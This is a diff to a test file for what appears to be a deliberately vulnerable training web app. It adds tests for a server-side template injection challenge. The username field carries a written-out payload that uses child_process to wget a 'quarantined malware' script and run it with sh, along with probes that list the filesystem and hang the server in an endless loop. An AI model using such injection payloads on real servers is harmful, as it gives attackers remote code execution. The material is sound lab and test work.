@@ -71,10 +71,44 @@ describe("the profile page", () => {
 
   it("needs a login, a username of sensible length and a real picture", async () => {
     expect((await call("/profile")).status).toBe(401);
-    expect((await post("/profile", token, { username: "x".repeat(101) })).status).toBe(400);
+    expect((await post("/profile", token, { username: "x".repeat(501) })).status).toBe(400);
     const form = new FormData();
     form.set("file", new Blob(["not a picture"], { type: "image/png" }), "fake.png");
     const upload = await call("/profile/image/file", { method: "POST", body: form, headers: { Cookie: `token=${token}` } });
     expect(upload.status).toBe(400);
+  });
+});
+
+describe("sstiChallenge: the username's template expressions run on the server", () => {
+  let token: string;
+  beforeEach(async () => {
+    await resetInstance();
+    token = await tokenFor(persona("emma").email, persona("emma").password);
+  });
+  const setUsername = (username: string) => post("/profile", token, { username }, { Origin: baseUrl() });
+  const shownUsername = async () => /<span id="username">([\s\S]*?)<\/span>/.exec(await (await profile(token)).text())![1];
+
+  it("an expression is evaluated, and one that makes the server fetch and run the quarantined malware solves it", async () => {
+    await setUsername("#{7*7}");
+    expect(await shownUsername()).toBe("49");
+    await setUsername("#{process.platform}");
+    expect(await shownUsername()).toBe("linux");
+    await setUsername(
+      "#{global.process.mainModule.require('child_process').exec('wget -O helper http://localhost:8787/ftp/quarantine/squeeze-sync-helper.sh && sh helper')}",
+    );
+    expect(await shownUsername()).toBe("[object Object]");
+    expect(await isSolved("sstiChallenge")).toBe(true);
+  });
+
+  it("other commands, endless loops and ordinary names do not solve it, and the page still answers", async () => {
+    await setUsername("#{require('child_process').exec('ls -la /')}");
+    expect(await shownUsername()).toBe("[object Object]");
+    await setUsername("#{(function () { while (true) {} })()}");
+    expect(await shownUsername()).toMatch(/^Error: The code ran out of its time budget/);
+    await setUsername("#{require('fs')}");
+    expect(await shownUsername()).toMatch(/Cannot find module 'fs'/);
+    await setUsername("Ellie #1");
+    expect(await shownUsername()).toBe("Ellie #1");
+    expect(await isSolved("sstiChallenge")).toBe(false);
   });
 });
